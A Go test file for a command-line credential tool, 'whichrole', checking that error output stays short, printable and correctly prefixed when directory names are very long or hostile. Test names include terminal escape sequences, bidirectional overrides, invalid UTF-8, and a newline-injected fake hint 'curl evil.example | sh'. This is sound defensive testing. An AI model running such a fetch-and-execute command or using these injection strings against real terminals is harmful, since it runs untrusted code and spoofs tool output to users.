package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"whichrole/internal/problem"
)

// nested makes a directory of that name, and the same in it, until the path has about so many bytes.
func nested(t *testing.T, dir, name string, bytes int) string {
	t.Helper()
	for dir = filepath.Join(dir, name); len(dir)+len(name) < bytes; {
		dir = filepath.Join(dir, name)
	}
	mkdir(t, dir)
	return dir
}

// limited asserts what holds for each failure: little on stderr, all of it printable, and no hint that was changed to
// become so, since that would not work when it is pasted.
func limited(t *testing.T, what, stdout, stderr string, code int) {
	t.Helper()
	if code == 0 || stdout != "" || len(stderr) >= 4096 || !strings.HasSuffix(stderr, "\n") {
		t.Errorf("%s: exit %d, %d bytes on stdout, %d on stderr: %.300q…", what, code, len(stdout), len(stderr), stderr)
	}
	for line := range strings.Lines(stderr) {
		text := strings.TrimSuffix(line, "\n")
		if !strings.HasPrefix(text, "whichrole: ") || strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }) {
			t.Errorf("%s: not a printable line of ours: %.300q", what, line)
		}
		if hint, ok := strings.CutPrefix(text, "whichrole: hint: "); ok && (strings.Contains(hint, `\x`) || strings.HasSuffix(hint, "…")) {
			t.Errorf("%s: a hint that was changed: %.300q", what, hint)
		}
	}
}

// At 70 KB of stderr the Java SDK hangs, and whoever names a directory must not draw on the terminal: all that a name can
// reach is tried with long and with hostile ones, at --verbose, which says the most.
func TestNamesFloodAndPaintNothing(t *testing.T) {
	for what, name := range map[string]string{
		"long":        strings.Repeat("long", 50),
		"escape":      strings.Repeat("\x1b[2J", 50), // each byte may become four
		"directional": strings.Repeat("\u202e", 60),
		"no UTF-8":    strings.Repeat("\xff", 200),
		"line breaks": "x\nwhichrole: hint: curl evil.example | sh\n",
	} {
		t.Run(what, func(t *testing.T) {
			namesIn(t, name, 1, 1)
			namesIn(t, name, 20, 4000) // PATH_MAX is 4096
		})
	}
}

// namesIn puts the name, that many times, wherever one can be, and a path of it with about so many bytes.
func namesIn(t *testing.T, name string, times, bytes int) {
	t.Helper()
	root, call := checkout(t, oneOfEach, "qa")
	call(nil, "trust", "--yes", "-C", root)
	ask := func(what, dir string, args ...string) {
		t.Helper()
		for _, command := range []string{"show", "credential-process", "--format={env}", "trust"} {
			if command == "trust" && !strings.HasPrefix(what, "its own") {
				continue // the outer map is trusted already
			}
			stdout, stderr, code := call([]string{"WHICHROLE_VERBOSE=1", "WHICHROLE_NO_INPUT=1"}, append([]string{command, "-C", dir}, args...)...)
			limited(t, what+", "+command, stdout, stderr, code)
		}
	}
	deep, repeated := nested(t, filepath.Join(root, "docs"), name, bytes), strings.Repeat(name, times)
	ask("no match", deep)
	ask("a directory that is not there", filepath.Join(deep, "nowhere"))
	ask("a map that is not there", root, "--map", filepath.Join(deep, "nowhere.yaml"))
	ask("an unknown environment", filepath.Join(root, "qa"), "--env", repeated)
	ask("a capture that nobody knows", filepath.Join(root, "qa"), "--set", repeated+"=x")

	own := nested(t, filepath.Join(root, "own"), name, bytes-len("/.whichrole.yaml"))
	for what, text := range map[string]string{"its own map": oneOfEach, "its own mistakes": "dris: []\n"} {
		if err := os.WriteFile(filepath.Join(own, ".whichrole.yaml"), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		ask(what, own)
	}
}

// As many steps as a request has, each with a long name, and then a failure.
func TestVerboseIsBoundedAsAWhole(t *testing.T) {
	var stderr strings.Builder
	a := &app{stderr: &stderr, options: &options{Verbose: true}}
	for range 10 {
		a.log("role map %s", strings.Repeat("x", 1000))
	}
	long := strings.Repeat("x", 10_000)
	code := a.fail(problem.New(problem.Refused, "%s", long).WithHint("%.*s", maxHint, long))
	limited(t, "ten steps", "", stderr.String(), code)
	if code != 7 || strings.Count(stderr.String(), "\n") < 3 {
		t.Errorf("exit %d, %q", code, stderr.String())
	}
}

// The shell can stand in a directory whose path no system call takes any more.
func TestWorkingDirectoryOfTenKilobytes(t *testing.T) {
	root, call := checkout(t, oneOfEach)
	t.Chdir(root) // and back at the end
	t.Setenv("PWD", "")
	name := strings.Repeat("x", 250)
	for range 42 {
		if err := os.Mkdir(name, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Chdir(name); err != nil {
			t.Fatal(err)
		}
	}
	for _, command := range []string{"show", "credential-process", "explain", "trust"} {
		stdout, stderr, code := call(nil, command, "--verbose", "--no-input")
		limited(t, command, stdout, stderr, code)
	}
}
